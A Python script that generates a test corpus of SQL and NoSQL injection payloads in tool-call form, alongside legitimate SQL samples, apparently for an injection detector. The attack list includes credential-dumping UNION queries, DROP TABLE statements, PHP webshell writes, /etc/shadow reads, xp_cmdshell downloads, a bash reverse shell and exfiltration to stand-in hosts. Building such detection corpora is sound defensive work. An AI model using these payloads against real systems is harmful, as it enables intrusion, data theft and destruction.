#!/usr/bin/env python3
"""Generates tests/corpus/payloads/sql.jsonl (SQL and NoSQL injection attacks)
and tests/corpus/payloads/legit-sql.jsonl (hard legitimate SQL-looking work).

Techniques follow PayloadsAllTheThings (SQL Injection/*.md, NoSQL Injection),
OWASP WSTG-INPV-05 and the OWASP SQL Injection Prevention Cheat Sheet; the
payload lines are written here. Run from the repository root:
    python3 tests/corpus/gen/sql.py
"""
import base64
import json
import urllib.parse

PATT = "PayloadsAllTheThings/SQL Injection"
NOSQL = "PayloadsAllTheThings/NoSQL Injection/README.md"
WSTG = "OWASP WSTG-INPV-05"

attacks = []


def atk(technique, source, tool, payload):
    attacks.append({"technique": technique, "source": source, "tool": tool, "payload": payload})


# --- obfuscations -----------------------------------------------------------
def pct(s):
    return urllib.parse.quote(s, safe="")


def dpct(s):
    return pct(pct(s))


def b64(s):
    return base64.b64encode(s.encode()).decode()


def html(s):
    return "".join(f"&#{ord(c)};" if c in "'\"<>=()" or c == " " else c for c in s)


def uesc(s):
    return "".join(f"\\u{ord(c):04x}" if c in "'\" =()-" else c for c in s)


def xesc(s):
    return "".join(f"\\x{ord(c):02x}" if c in "'\" =()" else c for c in s)


def fullwidth(s):
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else ("\u3000" if c == " " else c) for c in s)


def zw(s, words=("UNION", "SELECT", "OR", "SLEEP", "union", "select", "or", "sleep")):
    for w in words:
        s = s.replace(w, w[0] + "\u200b" + w[1:])
    return s


def homo(s):
    # Cyrillic look-alikes in keywords.
    return s.replace("O", "\u041e").replace("E", "\u0415").replace("C", "\u0421").replace("A", "\u0410")


def alt_case(s):
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(s))


def call(name, args):
    """OpenAI-style function call: arguments as a JSON string."""
    return {"name": name, "arguments": json.dumps(args)}


# --- classic break-outs in value fields --------------------------------------
atk("tautology quote", f"{PATT}/README.md", "auth.login", {"username": "' OR '1'='1", "password": "' OR '1'='1"})
atk("tautology comment", f"{PATT}/README.md", "auth.login", {"username": "admin' --", "password": "x"})
atk("comment terminator hash", f"{PATT}/MySQL Injection.md", "auth.login", {"username": "admin'#", "password": "irrelevant"})
atk("comment terminator paren", f"{PATT}/README.md", "users.lookup", {"args": {"name": "admin')--"}})
atk("paren tautology", f"{PATT}/README.md", "crm.search", {"q": "') OR ('a'='a"})
atk("double quote tautology", f"{PATT}/README.md", "crm.search", {"query": "\" OR \"\"=\""})
atk("numeric tautology", WSTG, "orders.get", {"order_id": "1 OR 1=1"})
atk("numeric tautology paren", WSTG, "orders.get", {"id": "10) OR (1=1"})
atk("or true", f"{PATT}/README.md", "kb.search", {"search": "x' or true-- -"})
atk("like tautology", f"{PATT}/README.md", "users.find", {"filter": {"name": "' OR 'a' LIKE 'a"}})
atk("tautology limit", f"{PATT}/README.md", "auth.login", {"user": "' OR 1=1 LIMIT 1 -- -", "pass": "a"})
atk("or 1", f"{PATT}/README.md", "products.list", {"category": "books' OR 1-- "})
atk("double pipe tautology", f"{PATT}/Oracle Injection.md", "hr.employee", {"last_name": "x' || '1'='1"})
atk("not false", f"{PATT}/README.md", "tickets.search", {"value": "1' OR NOT FALSE--"})
atk("and boolean blind", WSTG, "shop.product", {"product_id": "7' AND 1=2-- "})
atk("and boolean blind numeric", WSTG, "shop.product", {"product_id": "7 AND 1=1"})
atk("ascii substring probe", f"{PATT}/MySQL Injection.md", "shop.product", {"sku": "A100' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77-- -"})
atk("length probe", f"{PATT}/README.md", "users.profile", {"id": "5 AND LENGTH(database())=8"})
atk("exists probe", f"{PATT}/MSSQL Injection.md", "inventory.item", {"item": "x' AND EXISTS(SELECT * FROM users WHERE username='admin')--"})
atk("mid probe", f"{PATT}/MySQL Injection.md", "blog.post", {"slug": "hello' AND MID(VERSION(),1,1)='8"})
atk("order by column count", f"{PATT}/README.md", "catalog.list", {"category": "shoes' ORDER BY 5-- -"})
atk("group by probe", f"{PATT}/MSSQL Injection.md", "catalog.list", {"category": "1' GROUP BY 1,2,3--"})
atk("having probe", f"{PATT}/MSSQL Injection.md", "catalog.list", {"category": "1' HAVING 1=1--"})
# UNION reads
atk("union null list", f"{PATT}/README.md", "catalog.search", {"q": "' UNION SELECT NULL,NULL,NULL--"})
atk("union credentials", f"{PATT}/MySQL Injection.md", "catalog.search", {"term": "x' UNION ALL SELECT username, password FROM users-- -"})
atk("union information_schema", f"{PATT}/MySQL Injection.md", "news.article", {"id": "-1 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()"})
atk("union version", f"{PATT}/MySQL Injection.md", "news.article", {"id": "0 UNION SELECT @@version,2"})
atk("union pg version", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"report": "x' UNION SELECT version(), current_user--"})
atk("union sqlite master", f"{PATT}/SQLite Injection.md", "notes.find", {"title": "' UNION SELECT sql, name FROM sqlite_master--"})
atk("union mssql", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "' UNION SELECT name, NULL FROM master..sysdatabases--"})
atk("union oracle dual", f"{PATT}/Oracle Injection.md", "erp.lookup", {"code": "' UNION SELECT banner, NULL FROM v$version--"})
atk("union paren", f"{PATT}/README.md", "search", {"args": {"input": {"keyword": "a') UNION (SELECT email, pass_hash FROM accounts)--"}}})
atk("union in url", WSTG, "http.get", {"url": "https://shop.example.com/item.php?id=-3 UNION SELECT 1,user(),3--"})
atk("union in url plus", WSTG, "http.get", {"url": "https://shop.example.com/item.php?id=1'+UNION+SELECT+username,password+FROM+users--+-"})
# stacked statements
atk("stacked drop", f"{PATT}/README.md", "crm.update_contact", {"name": "Robert'); DROP TABLE students;--"})
atk("stacked drop numeric", f"{PATT}/README.md", "orders.get", {"id": "1; DROP TABLE orders"})
atk("stacked delete", f"{PATT}/README.md", "tickets.close", {"ticket": "42'; DELETE FROM tickets WHERE '1'='1"})
atk("stacked update", f"{PATT}/README.md", "users.profile", {"nickname": "z'; UPDATE users SET role='admin' WHERE username='eve'--"})
atk("stacked insert", f"{PATT}/README.md", "users.profile", {"bio": "hi'; INSERT INTO admins(user) VALUES('eve');--"})
atk("stacked exec xp_cmdshell", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "1'; EXEC master..xp_cmdshell 'powershell -c iwr http://203.0.113.9/a.ps1|iex'--"})
atk("stacked enable xp_cmdshell", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "1; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;--"})
atk("stacked shutdown", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "'; SHUTDOWN WITH NOWAIT;--"})
atk("stacked declare", f"{PATT}/MSSQL Injection.md", "cms.page", {"page": "1;DECLARE @q VARCHAR(99);SET @q='\\\\attacker.example\\x';EXEC master.dbo.xp_dirtree @q;--"})
atk("stacked create user", f"{PATT}/PostgreSQL Injection.md", "cms.page", {"page": "1'; CREATE USER backdoor WITH SUPERUSER PASSWORD 'x';--"})
atk("stacked copy program", f"{PATT}/PostgreSQL Injection.md", "analytics.filter", {"value": "'; COPY cmd_exec FROM PROGRAM 'id > /tmp/o';--"})
atk("stacked grant", f"{PATT}/PostgreSQL Injection.md", "cms.page", {"page": "1'; GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO eve;--"})
# time blind
atk("mysql sleep", f"{PATT}/MySQL Injection.md", "shop.product", {"product_id": "1' AND SLEEP(5)-- -"})
atk("mysql if sleep", f"{PATT}/MySQL Injection.md", "shop.product", {"product_id": "1 AND IF(SUBSTRING(user(),1,1)='r',SLEEP(5),0)"})
atk("mysql benchmark", f"{PATT}/MySQL Injection.md", "shop.product", {"sku": "1' AND BENCHMARK(10000000,MD5('a'))#"})
atk("mysql sleep select", f"{PATT}/MySQL Injection.md", "shop.product", {"sku": "x' OR (SELECT * FROM (SELECT(SLEEP(10)))a)-- -"})
atk("pg_sleep", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"report": "1' AND 1=(SELECT 1 FROM pg_sleep(5))--"})
atk("pg_sleep concat", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"report": "x'||pg_sleep(10)--"})
atk("pg case when sleep", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"id": "1; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"})
atk("mssql waitfor", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "1'; WAITFOR DELAY '0:0:5'--"})
atk("mssql if waitfor", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "1; IF (SELECT COUNT(*) FROM users WHERE name='sa')>0 WAITFOR DELAY '0:0:7'--"})
atk("oracle dbms_pipe", f"{PATT}/Oracle Injection.md", "hr.employee", {"emp_id": "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)--"})
atk("sqlite randomblob", f"{PATT}/SQLite Injection.md", "notes.find", {"title": "1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--"})
# out-of-band and files
atk("load_file", f"{PATT}/MySQL Injection.md", "news.article", {"id": "1 UNION SELECT LOAD_FILE('/etc/passwd'),2"})
atk("dns exfil load_file", f"{PATT}/MySQL Injection.md", "news.article", {"id": "1' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.x.attacker.example\\\\a'))-- -"})
atk("into outfile webshell", f"{PATT}/MySQL Injection.md", "news.article", {"id": "1' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -"})
atk("into dumpfile", f"{PATT}/MySQL Injection.md", "news.article", {"id": "-1 UNION SELECT 0x3c3f706870 INTO DUMPFILE '/var/www/x.php'"})
atk("xp_dirtree unc", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "1'; EXEC master..xp_dirtree '\\\\\\\\attacker.example\\\\share';--"})
atk("utl_http", f"{PATT}/Oracle Injection.md", "hr.employee", {"emp_id": "1' AND 1=UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))--"})
atk("utl_inaddr", f"{PATT}/Oracle Injection.md", "hr.employee", {"emp_id": "x' || UTL_INADDR.GET_HOST_ADDRESS((SELECT password FROM dba_users WHERE rownum=1)||'.attacker.example')--"})
atk("pg_read_file", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"report": "' UNION SELECT pg_read_file('/etc/passwd'), NULL--"})
atk("lo_import", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"report": "1; SELECT lo_import('/etc/shadow', 31337);--"})
atk("openrowset", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.7;uid=sa;pwd=x','SELECT 1')--"})
# error based
atk("extractvalue", f"{PATT}/MySQL Injection.md", "catalog.search", {"q": "' AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))-- -"})
atk("updatexml", f"{PATT}/MySQL Injection.md", "catalog.search", {"q": "1' AND updatexml(null,concat(0x0a,user()),null)-- -"})
atk("cast int error", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"report": "' AND 1=CAST((SELECT current_user) AS int)--"})
atk("convert int error", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"code": "' AND 1=CONVERT(int,@@version)--"})
atk("floor rand duplicate", f"{PATT}/MySQL Injection.md", "catalog.search", {"q": "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"})
# string building
atk("char building", f"{PATT}/MSSQL Injection.md", "auth.login", {"username": "' OR name=CHAR(97,100,109,105,110)--"})
atk("hex literal", f"{PATT}/MySQL Injection.md", "auth.login", {"username": "' OR username=0x61646d696e-- -"})
atk("chr concat", f"{PATT}/Oracle Injection.md", "auth.login", {"username": "' OR 'a'=CHR(97)||''--"})
# WAF evasion: comments, versioned comments, case, whitespace
atk("comment split keywords", f"{PATT}/SQLmap.md", "catalog.search", {"q": "1' UN/**/ION SEL/**/ECT password FR/**/OM users-- -"})
atk("comment as whitespace", f"{PATT}/README.md", "catalog.search", {"q": "'/**/OR/**/1=1/**/--"})
atk("mysql versioned comment", f"{PATT}/MySQL Injection.md", "news.article", {"id": "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3"})
atk("versioned comment tautology", f"{PATT}/MySQL Injection.md", "auth.login", {"username": "admin'/*!OR*/1=1#"})
atk("alternating case", f"{PATT}/README.md", "catalog.search", {"q": "' uNiOn SeLeCt nUlL,NuLl--"})
atk("newline whitespace", f"{PATT}/README.md", "catalog.search", {"q": "'\nOR\n1=1\n--"})
atk("tab whitespace", f"{PATT}/README.md", "catalog.search", {"search": "1'\tUNION\tSELECT\tNULL--"})
# shapes: OpenAI arguments, arrays, nested
atk("openai arguments tautology", WSTG, "function_call", call("lookup_customer", {"customer_name": "x' OR 'x'='x"}))
atk("openai arguments union", WSTG, "function_call", call("get_order", {"order_id": "1 UNION SELECT card_number, cvv FROM payments"}))
atk("array arg stacked", WSTG, "db.bulk_lookup", {"ids": ["17", "18", "19; DROP TABLE audit_log--"]})
atk("nested filter value", WSTG, "reports.run", {"params": {"filters": [{"column": "region", "value": "EU' OR '1'='1"}]}})
atk("sort injection", f"{PATT}/README.md", "catalog.list", {"sort": "price; DROP TABLE products--"})
atk("orderby case probe", f"{PATT}/README.md", "catalog.list", {"orderby": "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' THEN price ELSE name END)"})
atk("where fragment tautology", WSTG, "reports.run", {"where": "region = 'EU' OR 1=1 --"})
atk("sql field stacked", WSTG, "db.query", {"sql": "SELECT * FROM products WHERE id = 1; DROP TABLE users; --"})
atk("sql field quoted break", WSTG, "db.query", {"query": "SELECT * FROM accounts WHERE user = '' OR '1'='1' --' AND pass = ''"})
atk("sql field sleep", WSTG, "db.query", {"query": "SELECT id FROM users WHERE id = 1 AND SLEEP(10)"})
atk("sql field outfile", WSTG, "db.query", {"statement": "SELECT '<?php eval($_POST[1]);?>' INTO OUTFILE '/var/www/html/b.php'"})
atk("sql field xp_cmdshell", WSTG, "mssql.execute", {"sql": "EXEC xp_cmdshell 'certutil -urlcache -f http://203.0.113.5/n.exe C:\\\\n.exe'"})
atk("sql field copy program", WSTG, "pg.query", {"query": "COPY (SELECT '') TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"'"})
atk("sql field union probe", WSTG, "db.query", {"query": "SELECT name FROM products WHERE id=-1 UNION SELECT NULL,NULL,NULL,NULL"})
atk("sql field dns exfil", WSTG, "db.query", {"query": "SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), '.exfil.attacker.example\\\\x'))"})
atk("sql field comment split", WSTG, "db.query", {"query": "SELECT id FROM t WHERE id=1 UN/**/ION SEL/**/ECT pass FROM users"})
atk("email field break", WSTG, "newsletter.subscribe", {"email": "a@b.co' OR 1=1--"})
atk("path-like id break", WSTG, "files.meta", {"doc_id": "1' AND 1=(SELECT COUNT(*) FROM tabname); --"})
# obfuscations of the classics (the normalizer decodes these)
base_cases = [
    ("' OR '1'='1' -- ", "username"),
    ("1 UNION SELECT username, password FROM users", "id"),
    ("1'; DROP TABLE users; --", "name"),
    ("1' AND SLEEP(5)#", "product_id"),
    ("admin'--", "user"),
    ("' UNION SELECT NULL,NULL,@@version--", "search"),
]
obf = [("percent", pct), ("double percent", dpct), ("base64", b64), ("html entities", html), ("unicode escapes", uesc), ("hex escapes", xesc), ("full-width", fullwidth), ("zero-width", zw), ("homoglyphs", homo), ("alternating case", alt_case)]
for k, (name, f) in enumerate(obf):
    for j in (k % len(base_cases), (k + 3) % len(base_cases)):
        text, field = base_cases[j]
        src = "OWASP WSTG-INPV-05 / PayloadsAllTheThings/SQL Injection/README.md (WAF bypass)"
        atk(f"{name} obfuscation", src, "api.call", {field: f(text)})
# NoSQL operator injection
atk("nosql ne login json", NOSQL, "auth.login", {"username": {"$ne": None}, "password": {"$ne": None}})
atk("nosql gt login", NOSQL, "auth.login", {"username": "admin", "password": {"$gt": ""}})
atk("nosql regex login", NOSQL, "user.signin", {"username": {"$regex": "^adm"}, "password": {"$regex": ".*"}})
atk("nosql in arguments", NOSQL, "function_call", call("login", {"username": "admin", "password": {"$ne": "wrong"}}))
atk("nosql ne arguments", NOSQL, "function_call", call("verify_user", {"email": {"$ne": None}, "pin": {"$ne": None}}))
atk("nosql bracket query string", NOSQL, "http.post", {"url": "https://app.example.com/login", "body": "username[$ne]=toto&password[$ne]=toto"})
atk("nosql bracket regex", NOSQL, "http.post", {"url": "https://app.example.com/login", "body": "user[$regex]=^ad&pass[$ne]=1"})
atk("nosql bracket url", NOSQL, "http.get", {"url": "https://api.example.com/users?login[$gt]=&password[$gt]="})
atk("nosql where js", NOSQL, "mongo.find", {"collection": "users", "filter": {"$where": "this.password.length > 0 || sleep(5000)"}})
atk("nosql where return true", NOSQL, "mongo.find", {"collection": "users", "filter": {"$where": "return true"}})
atk("nosql js break-out", NOSQL, "users.search", {"name": "'; return true; var x='"})
atk("nosql js break-out or", NOSQL, "users.search", {"name": "' || '1'=='1"})
atk("nosql js sleep", NOSQL, "users.search", {"name": "1; sleep(5000); var a=1"})
atk("nosql operator object string", NOSQL, "auth.login", {"username": "admin", "password": "{\"$ne\": null}"})
atk("nosql exists", NOSQL, "function_call", call("reset_password", {"token": {"$exists": True}, "new_password": "hunter2"}))
atk("nosql where in json string", NOSQL, "db.mongo", {"command": "{\"find\": \"users\", \"filter\": {\"$where\": \"function() { return this.role == 'admin' || true }\"}}"})
atk("nosql regex extract", NOSQL, "function_call", call("check_account", {"username": "admin", "password": {"$regex": "^a.*"}}))
atk("nosql percent bracket", NOSQL, "http.get", {"url": "https://app.example.com/api/session?username%5B%24ne%5D=x&password%5B%24ne%5D=x"})

# more shapes and dialect tricks
atk("header injection user-agent", WSTG, "http.request", {"url": "https://intranet.example.com/track", "headers": {"User-Agent": "Mozilla/5.0' AND SLEEP(8) AND '1'='1", "Accept": "*/*"}})
atk("x-forwarded-for injection", WSTG, "http.request", {"url": "https://shop.example.com/", "headers": {"X-Forwarded-For": "127.0.0.1' OR 1=1-- -"}})
atk("cookie value injection", WSTG, "http.request", {"url": "https://shop.example.com/cart", "cookies": {"cart_id": "9a7f' UNION SELECT session_token, NULL FROM sessions-- -"}})
atk("graphql argument", WSTG, "graphql.query", {"query": "query($id: ID!) { user(id: $id) { name } }", "variables": {"id": "1' OR '1'='1"}})
atk("csv import row", f"{PATT}/README.md", "crm.import_rows", {"rows": [["Jane", "Doe", "jane@example.com"], ["x", "y'); DELETE FROM contacts; --", "z@example.com"]]})
atk("second order stored name", f"{PATT}/README.md", "users.update_profile", {"user_id": 88, "profile": {"display_name": "admin'-- ", "city": "Lyon"}})
atk("union hash newline", f"{PATT}/MySQL Injection.md", "news.article", {"id": "1 UNION#foo\nSELECT 1,password FROM users"})
atk("union distinctrow", f"{PATT}/MySQL Injection.md", "news.article", {"slug": "x' UNION DISTINCT SELECT user(),2-- -"})
atk("mssql exec string concat", f"{PATT}/MSSQL Injection.md", "erp.lookup", {"sku": "1'; EXEC('SEL'+'ECT * FROM users')--"})
atk("sqlite attach webshell", f"{PATT}/SQLite Injection.md", "notes.find", {"title": "x'; ATTACH DATABASE '/var/www/lol.php' AS lol; CREATE TABLE lol.pwn (dataz text); INSERT INTO lol.pwn (dataz) VALUES ('<?php system($_GET[\"cmd\"]); ?>');--"})
atk("oracle ctxsys error", f"{PATT}/Oracle Injection.md", "hr.employee", {"emp_id": "1' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"})
atk("postgres dollar quoting", f"{PATT}/PostgreSQL Injection.md", "reports.get", {"report": "x'; SELECT $$a$$ || pg_sleep(6);--"})
atk("backslash quote", f"{PATT}/MySQL Injection.md", "auth.login", {"username": "\\' OR 1=1 -- ", "password": "x"})
atk("boolean with rlike", f"{PATT}/MySQL Injection.md", "shop.product", {"sku": "1 RLIKE (SELECT (CASE WHEN (ORD(MID(user(),1,1))>64) THEN 1 ELSE 0x28 END))"})
atk("scientific notation bypass", f"{PATT}/MySQL Injection.md", "news.article", {"id": "1e0UNION SELECT 1,@@version"})
atk("sql field stacked after literal", WSTG, "db.query", {"sql": "SELECT * FROM users WHERE name = 'bob'; DROP TABLE sessions; --'"})
atk("json where fragment", WSTG, "reports.run", {"params": {"where": "id > 0 OR 'a'='a'"}})
atk("nosql gt in query string array", NOSQL, "http.get", {"url": "https://api.example.com/v1/accounts?user=admin&password[$gt]=&role[$ne]=user"})
atk("nosql where sleep in arguments", NOSQL, "function_call", call("find_user", {"filter": {"$where": "sleep(5000) || true"}}))

legit = []


def ok(kind, tool, payload, family="sql_injection"):
    legit.append({"technique": kind, "source": f"ops:{kind}", "tool": tool, "payload": payload, "family": family})

# --- analytics SQL --------------------------------------------------------
AN = "analytics"
ok(AN, "warehouse.query", {"query": "-- weekly revenue by region (finance dashboard)\nSELECT region, date_trunc('week', paid_at) AS wk, SUM(amount_cents)/100.0 AS revenue\nFROM payments\nWHERE paid_at >= now() - interval '90 days'\nGROUP BY 1, 2\nORDER BY 2 DESC, 1"})
ok(AN, "warehouse.query", {"sql": "WITH first_orders AS (\n  SELECT customer_id, MIN(created_at) AS first_at FROM orders GROUP BY customer_id\n)\nSELECT date_trunc('month', first_at) AS cohort, COUNT(*) FROM first_orders GROUP BY 1 ORDER BY 1"})
ok(AN, "warehouse.query", {"query": "SELECT user_id, event, ts, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY ts) AS rn,\n       LAG(ts) OVER (PARTITION BY user_id ORDER BY ts) AS prev_ts\nFROM events WHERE ts > '2024-01-01' /* only this year */"})
ok(AN, "warehouse.query", {"query": "SELECT 'web' AS channel, COUNT(*) FROM web_orders WHERE status = 'paid'\nUNION ALL\nSELECT 'store', COUNT(*) FROM store_orders WHERE status = 'paid'\nUNION ALL\nSELECT 'phone', COUNT(*) FROM phone_orders WHERE status = 'paid'"})
ok(AN, "db.query", {"query": "SELECT * FROM customers WHERE 1=1 AND country = 'IE' AND created_at >= '2024-03-01' ORDER BY created_at DESC LIMIT 100"})
ok(AN, "db.query", {"query": "SELECT name, email FROM customers WHERE last_name = 'O''Brien' OR last_name = 'O''Neill'"})
ok(AN, "db.query", {"query": "SELECT product, SUM(qty) FILTER (WHERE returned) AS returned_qty, SUM(qty) AS total FROM order_lines GROUP BY product HAVING SUM(qty) > 10"})
ok(AN, "bigquery.run", {"query": "#standardSQL\nSELECT country, APPROX_COUNT_DISTINCT(user_pseudo_id) AS users\nFROM `proj.analytics_123.events_*`\nWHERE _TABLE_SUFFIX BETWEEN '20240101' AND '20240131'\nGROUP BY country ORDER BY users DESC"})
ok(AN, "db.query", {"query": "SELECT id, title FROM tickets WHERE status = 'open' OR (status = 'pending' AND priority >= 3) ORDER BY priority DESC"})
ok(AN, "db.query", {"query": "SELECT COUNT(*) FILTER (WHERE is_active) AS active, COUNT(*) AS total FROM users; -- sanity check before the migration"})
ok(AN, "warehouse.query", {"query": "SELECT a.id, a.name, COALESCE(b.total, 0) AS total\nFROM accounts a\nLEFT JOIN (SELECT account_id, SUM(amount) total FROM invoices GROUP BY 1) b ON b.account_id = a.id\nWHERE a.deleted_at IS NULL"})
ok(AN, "db.query", {"query": "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' AND table_name = 'orders' ORDER BY ordinal_position"})
ok(AN, "db.query", {"query": "SELECT version(), current_database(), current_user"})
ok(AN, "mysql.query", {"query": "SELECT @@version, @@sql_mode, DATABASE()"})
ok(AN, "db.query", {"query": "SELECT relname, n_live_tup, n_dead_tup FROM pg_catalog.pg_stat_user_tables ORDER BY n_dead_tup DESC LIMIT 20"})
ok(AN, "db.query", {"query": "SELECT name, sql FROM sqlite_master WHERE type = 'table'"})
ok(AN, "db.query", {"query": "SELECT o.id FROM orders o WHERE o.note LIKE '%don''t ship%' OR o.note LIKE '%call first%'"})
ok(AN, "db.query", {"query": "SELECT CASE WHEN amount > 1000 THEN 'large' WHEN amount > 100 THEN 'medium' ELSE 'small' END AS bucket, COUNT(*) FROM payments GROUP BY 1"})
ok(AN, "db.query", {"query": "SELECT SUBSTRING(email FROM POSITION('@' IN email) + 1) AS domain, COUNT(*) FROM users GROUP BY 1 ORDER BY 2 DESC"})
ok(AN, "db.query", {"query": "SELECT ASCII(LEFT(code, 1)) AS first_char, COUNT(*) FROM vouchers GROUP BY 1"})
ok(AN, "db.query", {"query": "SELECT id, CONCAT(first_name, ' ', last_name) AS full_name, CHAR_LENGTH(bio) FROM authors WHERE bio IS NOT NULL"})
ok(AN, "snowflake.query", {"query": "SELECT DATE_TRUNC('day', ts) d, COUNT_IF(status = 'error') errors FROM logs WHERE ts >= DATEADD(day, -7, CURRENT_DATE()) GROUP BY d ORDER BY d"})
ok(AN, "db.query", {"query": "SELECT NULL AS region, NULL AS wk, SUM(amount) FROM sales UNION ALL SELECT region, week, SUM(amount) FROM sales GROUP BY region, week"})
ok(AN, "db.query", {"query": "WITH RECURSIVE tree AS (SELECT id, parent_id, name, 1 AS depth FROM categories WHERE parent_id IS NULL UNION ALL SELECT c.id, c.parent_id, c.name, t.depth + 1 FROM categories c JOIN tree t ON c.parent_id = t.id) SELECT * FROM tree"})
ok(AN, "db.query", {"query": "SELECT user_id, SUM(amount) OVER (PARTITION BY user_id ORDER BY ts ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM ledger"})
ok(AN, "db.query", {"query": "SELECT * FROM audit_log WHERE action IN ('DROP', 'DELETE', 'TRUNCATE') AND ts > now() - interval '1 day'"})
ok(AN, "db.query", {"query": "SELECT id, query_text FROM slow_queries WHERE query_text ILIKE '%sleep(%' OR duration_ms > 5000"})
ok(AN, "db.query", {"query": "SELECT pid, state, query FROM pg_stat_activity WHERE state <> 'idle' AND query NOT ILIKE '%pg_stat_activity%'"})
ok(AN, "db.query", {"query": "SELECT id FROM sessions WHERE expires_at < now() OR revoked = true"})
ok(AN, "db.query", {"query": "SELECT 1"})
ok(AN, "db.query", {"query": "SELECT lower(hex(randomblob(16))) AS new_id"})
ok(AN, "clickhouse.query", {"query": "SELECT toStartOfHour(ts) h, uniqExact(user_id) FROM events WHERE ts > now() - INTERVAL 1 DAY GROUP BY h ORDER BY h FORMAT JSON"})
ok(AN, "db.query", {"query": "SELECT name FROM products WHERE name = 'Rock ''n'' Roll T-shirt' OR sku = 'RNR-01'"})
ok(AN, "db.query", {"query": "SELECT * FROM t1 WHERE a = 1 OR a = 2 OR b = 'x'"})
ok(AN, "db.query", {"query": "/* dashboard: churn v2 */ SELECT plan, COUNT(*) FILTER (WHERE churned) * 100.0 / COUNT(*) AS churn_pct FROM subscriptions GROUP BY plan"})
ok(AN, "db.query", {"query": "SELECT DISTINCT ON (customer_id) customer_id, status FROM orders ORDER BY customer_id, created_at DESC"})
ok(AN, "mssql.query", {"query": "SELECT TOP 50 name, create_date FROM sys.databases ORDER BY create_date DESC"})
ok(AN, "mssql.query", {"query": "SELECT CONVERT(varchar(10), OrderDate, 120) AS d, COUNT(*) FROM Sales.Orders GROUP BY CONVERT(varchar(10), OrderDate, 120)"})
ok(AN, "oracle.query", {"query": "SELECT owner, table_name FROM all_tables WHERE owner = 'HR' ORDER BY table_name"})
ok(AN, "db.query", {"query": "SELECT CAST(amount AS int) AS whole, amount FROM refunds WHERE amount > 0"})
ok(AN, "db.query", {"query": "EXPLAIN SELECT * FROM orders WHERE customer_id = 42"})
ok(AN, "db.query", {"query": "SELECT a FROM x UNION SELECT a FROM y ORDER BY a"})
ok(AN, "db.query", {"query": "SELECT key, value FROM settings WHERE key LIKE 'feature.%' -- flags only\nORDER BY key"})

# --- migrations ---------------------------------------------------------------
MG = "migration"
ok(MG, "migrate.apply", {"name": "20240312_add_orders_index", "up": "CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_customer_idx ON orders (customer_id, created_at DESC);", "down": "DROP INDEX CONCURRENTLY IF EXISTS orders_customer_idx;"})
ok(MG, "migrate.apply", {"name": "0042_users_email_unique", "sql": "ALTER TABLE users ADD CONSTRAINT users_email_key UNIQUE (email);\nALTER TABLE users ALTER COLUMN email SET NOT NULL;"})
ok(MG, "flyway.migrate", {"script": "V7__create_audit.sql", "content": "CREATE TABLE audit_log (\n  id bigserial PRIMARY KEY,\n  actor text NOT NULL,\n  action text NOT NULL, -- e.g. 'DROP', 'DELETE'\n  ts timestamptz NOT NULL DEFAULT now()\n);\nCREATE INDEX ON audit_log (ts);"})
ok(MG, "migrate.apply", {"up": "DROP TABLE IF EXISTS tmp_import; CREATE TABLE tmp_import (LIKE customers INCLUDING ALL);", "down": "DROP TABLE IF EXISTS tmp_import;"})
ok(MG, "migrate.apply", {"sql": "BEGIN;\nALTER TABLE invoices RENAME COLUMN total TO total_cents;\nUPDATE invoices SET total_cents = total_cents * 100 WHERE currency = 'EUR';\nCOMMIT;"})
ok(MG, "alembic.upgrade", {"revision": "a1b2c3", "statements": ["ALTER TABLE accounts ADD COLUMN is_admin boolean NOT NULL DEFAULT false", "UPDATE accounts SET is_admin = true WHERE email = 'ops@example.com'"]})
ok(MG, "migrate.apply", {"sql": "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;\n/*!40101 SET NAMES utf8mb4 */;\nCREATE TABLE `users` (\n  `id` int NOT NULL AUTO_INCREMENT,\n  `name` varchar(255) NOT NULL,\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;"})
